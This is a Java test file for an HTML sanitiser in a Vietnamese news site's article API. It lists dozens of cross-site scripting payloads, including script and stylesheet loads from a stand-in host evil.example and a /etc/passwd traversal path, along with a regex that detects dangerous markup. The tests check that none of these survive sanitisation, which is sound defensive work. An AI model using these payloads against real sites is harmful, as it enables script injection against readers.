package vn.bantin.editorial;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import vn.bantin.Editors;
import vn.bantin.TestData;
import vn.bantin.author.Author;
import vn.bantin.category.Category;

/** Bodies are sanitised on the way in: no attack survives into the admin or the public answer; news markup does. */
@QuarkusTest
class SafeHtmlTest {
    /** What must never reach a reader's browser, in any case or spelling that a browser would still run. */
    private static final Pattern DANGEROUS = Pattern.compile("(?i)(<script|<style|<svg|<math|<iframe|<object|<embed"
            + "|<base|<meta|<link|<form|<input|\\son[a-z]+\\s*=|javascript:|vbscript:|data:|srcdoc|expression\\()");

    static List<String> payloads() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://a.example/x.jpg\" onload=\"alert(1)\">",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<a href=\"javascript:alert(1)\">bấm</a>",
                "<a href=\"JAVASCRIPT:alert(1)\">bấm</a>",
                "<a href=\"&#106;avascript:alert(1)\">bấm</a>",
                "<a href=\"java&#x09;script:alert(1)\">bấm</a>",
                "<a href=\"vbscript:msgbox(1)\">bấm</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">bấm</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<style>body{background:url('javascript:alert(1)')}</style>",
                "<p style=\"background:expression(alert(1))\">chữ</p>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                "<body onload=alert(1)>",
                "<div onmouseover=\"alert(1)\">rê chuột</div>",
                "<p onclick=alert(1)>bấm</p>",
                "<img src=x onerror=alert(1)//",
                "<<script>alert(1)//<</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<a href=\"#\" onclick=\"alert(1)\">bấm</a>",
                "<table background=\"javascript:alert(1)\"><tr><td>ô</td></tr></table>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<p>Chữ <!--><script>alert(1)</script>--></p>",
                "<img src=\"/media/../../etc/passwd\" onerror=alert(1)>",
                "<a href=\"//evil.example\" target=\"_blank\">ngoài</a>",
                "<p>chưa đóng <b>đậm <i>nghiêng");
    }

    @Inject
    TestData data;

    @ParameterizedTest
    @MethodSource("payloads")
    void noPayloadSurvivesInTheAdminOrThePublicAnswer(String payload) {
        String token = Editors.adminToken();
        Category category = data.category("An toàn nội dung");
        Author author = data.author("Thu Trang");
        Map<String, Object> body = new HashMap<>();
        body.put("title", "Bài thử an toàn " + TestData.unique("x"));
        body.put("bodyHtml", "<p>Mở đầu</p>" + payload + "<p>Kết thúc</p>");
        body.put("categorySlug", category.slug);
        body.put("authorSlug", author.slug);
        body.put("status", "PUBLISHED");
        String admin = Editors.as(token)
                .body(body)
                .when()
                .post("/api/v1/admin/articles")
                .then()
                .statusCode(201)
                .extract()
                .path("bodyHtml");
        String slug = Editors.as(token)
                .body(body)
                .when()
                .post("/api/v1/admin/articles")
                .then()
                .extract()
                .path("slug");
        String published = given().when()
                .get("/api/v1/articles/" + slug)
                .then()
                .statusCode(200)
                .extract()
                .path("bodyHtml");
        for (String html : List.of(admin, published)) {
            assertFalse(DANGEROUS.matcher(html).find(), payload + " became " + html);
            // What follows an unclosed <style> or <script> is its raw text, dropped with it.
            assertTrue(html.contains("Mở đầu"), html);
        }
    }

    @Test
    void newsMarkupSurvives() {
        String html = "<h2>Tiêu đề</h2><h3>Mục</h3><h4>Ý</h4><p><strong>đậm</strong> <em>nghiêng</em> <u>gạch</u>"
                + " H<sub>2</sub>O m<sup>2</sup></p><ul><li>một</li></ul><ol><li>hai</li></ol>"
                + "<blockquote>trích</blockquote><figure><img src=\"/media/anh-hoi-nghi.jpg\" alt=\"Hội nghị\">"
                + "<figcaption>Quang cảnh</figcaption></figure><img src=\"https://anh.example/a.jpg\" alt=\"a\">"
                + "<table><thead><tr><th>Cột</th></tr></thead><tbody><tr><td>Ô</td></tr></tbody></table>"
                + "<p><a href=\"https://quan.example/van-ban\">văn bản</a> <a href=\"mailto:vp@quan.example\">thư</a></p>";
        String clean = SafeHtml.sanitise(html).toLowerCase(Locale.ROOT);
        for (String kept : List.of(
                "<h2>",
                "<h3>",
                "<h4>",
                "<strong>",
                "<em>",
                "<u>",
                "<sub>",
                "<sup>",
                "<ul>",
                "<ol>",
                "<li>",
                "<blockquote>",
                "<figure>",
                "<figcaption>",
                "src=\"/media/anh-hoi-nghi.jpg\"",
                "src=\"https://anh.example/a.jpg\"",
                "<table>",
                "<th>",
                "<td>",
                "href=\"https://quan.example/van-ban\"",
                "href=\"mailto:vp&#64;quan.example\"",
                "rel=\"noopener\"")) {
            assertTrue(clean.contains(kept), kept + " lost from " + clean);
        }
    }
}
